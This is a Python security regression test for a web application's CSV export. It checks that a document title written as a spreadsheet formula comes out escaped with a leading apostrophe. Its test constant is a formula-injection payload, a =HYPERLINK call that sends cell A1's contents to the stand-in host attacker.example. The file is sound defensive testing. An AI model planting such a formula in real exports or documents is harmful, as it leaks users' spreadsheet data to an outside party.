"""Finding 10: the CSV export wrote ``=HYPERLINK(...)`` titles verbatim.

A spreadsheet opening the export would run the title as a formula. Failed
before the fix (the cell came back as ``=HYPERLINK(...)``); checked by running
it against the code before the change.
"""

from __future__ import annotations

import csv
import io

from tests.security.conftest import issue
from tests.web.harness import Api

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def test_a_formula_in_a_title_is_exported_as_text(api: Api) -> None:
    symbol = issue(api, {**api.record, "title": FORMULA})
    exported = api.get(None, "/api/exports/documents.csv")
    assert exported.status_code == 200
    rows = {row["symbol"]: row for row in csv.DictReader(io.StringIO(exported.text))}
    title = rows[symbol]["title"]
    assert not title.startswith(("=", "+", "-", "@")), title
    assert title == "'" + FORMULA
    # JSON Lines is no spreadsheet: it keeps the title as the mission wrote it.
    lines = api.get(None, "/api/exports/documents.jsonl").text
    assert FORMULA.replace('"', '\\"') in lines
